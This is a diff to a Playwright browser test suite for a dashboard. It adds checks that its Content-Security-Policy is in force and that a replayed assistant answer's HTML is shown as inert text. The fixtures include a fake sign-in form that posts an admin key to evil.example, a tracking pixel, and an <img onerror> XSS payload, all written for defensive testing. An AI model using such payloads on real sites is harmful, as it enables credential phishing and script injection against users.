@@ -7,7 +7,9 @@
  * .artifacts/dashboard/ and checked for anything sticking out of the window sideways; every control
  * is reached with Tab and shows a focus ring, and drawers close with Escape and give focus back. Media
  * views: an ImaGen image from the fake Together upstream, speech from the embedded espeak-ng played
- * in an <audio>, a Cloud file uploaded, downloaded and deleted with its owner key.
+ * in an <audio>, a Cloud file uploaded, downloaded and deleted with its owner key. All of it runs under
+ * the dashboard's Content-Security-Policy, and no step breaks a rule of it; a replayed answer's HTML
+ * is shown as text and loads nothing from elsewhere.
  */
 import assert from 'node:assert/strict';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
@@ -31,6 +33,8 @@ let context: BrowserContext;
 let page: Page;
 let userDataDir: string;
 let secret = '';
+/** Every Content-Security-Policy violation of the run, as the page reports it or Chromium logs it. */
+const violations: string[] = [];
 
 const nav = (label: string) => page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: label });
 
@@ -98,6 +102,15 @@ describe('dashboard in a browser', { skip: !existsSync(CHROMIUM) && `no Chromium
       args: ['--headless', '--no-sandbox', '--autoplay-policy=no-user-gesture-required', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
       viewport: { width: 1440, height: 900 },
       colorScheme: 'light',
+    });
+    await context.exposeBinding('reportViolation', (_source, text: string) => void violations.push(text));
+    await context.addInitScript(() =>
+      document.addEventListener('securitypolicyviolation', (e) =>
+        (window as unknown as { reportViolation(text: string): void }).reportViolation(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} (${e.sourceFile}:${e.lineNumber}) on ${location.pathname}`),
+      ),
+    );
+    context.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
     });
     page = context.pages()[0] ?? (await context.newPage());
     page.setDefaultTimeout(5_000);
@@ -327,6 +340,38 @@ describe('dashboard in a browser', { skip: !existsSync(CHROMIUM) && `no Chromium
     assert.deepEqual(replayed.messages, sent.messages);
   });
 
+  it('shows the HTML of a replayed answer as text: no form, input or image, nothing loaded from elsewhere', async () => {
+    const trap = '<form action="https://evil.example/steal"><input name="key" placeholder="Re-enter your admin key"><button>Sign in</button></form>';
+    const sent = {
+      model: 'gpt-4o-mini',
+      messages: [
+        { role: 'user', content: 'planted by anyone with a key' },
+        { role: 'assistant', content: `${trap}\n\n![pixel](https://evil.example/pixel.png)\n\n<img src="x" onerror="window.pwned = 1">\n\n**still Markdown**` },
+        { role: 'user', content: 'next' },
+      ],
+    };
+    const chat = await http(`${server.url}/v1/chat/completions`, { json: sent });
+    assert.equal(chat.status, 200, chat.text);
+    const offsite: string[] = [];
+    const record = (r: { url(): string }) => {
+      const url = new URL(r.url());
+      if (url.origin !== new URL(server.url).origin && !['data:', 'blob:'].includes(url.protocol)) offsite.push(r.url());
+    };
+    page.on('request', record);
+    await page.goto(`${server.url}/playground?replay=${chat.headers['x-request-id']}`);
+    const answer = page.locator('.message.assistant .answer');
+    await answer.locator('strong').getByText('still Markdown').waitFor();
+    assert.equal(await answer.locator('form, input, button, img, style, iframe').count(), 0);
+    await answer.getByText('placeholder="Re-enter your admin key"', { exact: false }).waitFor();
+    const pixel = answer.getByRole('link', { name: 'image: pixel' });
+    assert.equal(await pixel.getAttribute('href'), 'https://evil.example/pixel.png');
+    assert.equal(await pixel.getAttribute('rel'), 'noopener noreferrer nofollow');
+    await page.waitForLoadState('networkidle');
+    page.off('request', record);
+    assert.deepEqual(offsite, []);
+    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
+  });
+
   it('generates an image with ImaGen in the picked ratio and keeps it in the gallery', async () => {
     await nav('ImaGen').click();
     await page.getByRole('combobox', { name: 'Model' }).selectOption('flux');
@@ -539,5 +584,24 @@ describe('dashboard in a browser', { skip: !existsSync(CHROMIUM) && `no Chromium
         await fresh.close();
       }
     }
+  });
+
+  it('breaks no rule of its Content-Security-Policy in any view or any step above, and the policy is in force', async () => {
+    for (const view of VIEWS) {
+      await page.goto(`${server.url}${view}`);
+      await page.locator('main h1').waitFor();
+      await page.waitForLoadState('networkidle');
+    }
+    assert.deepEqual(violations, []);
+    // The same page refuses an injected inline script, and says so.
+    const ran = await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.inlineRan = true';
+      document.head.append(script);
+      return (window as unknown as { inlineRan?: boolean }).inlineRan ?? false;
+    });
+    assert.equal(ran, false);
+    for (let i = 0; i < 50 && violations.length === 0; i++) await new Promise((resolve) => setTimeout(resolve, 20));
+    assert.match(violations.join('\n'), /script-src/);
   });
 });
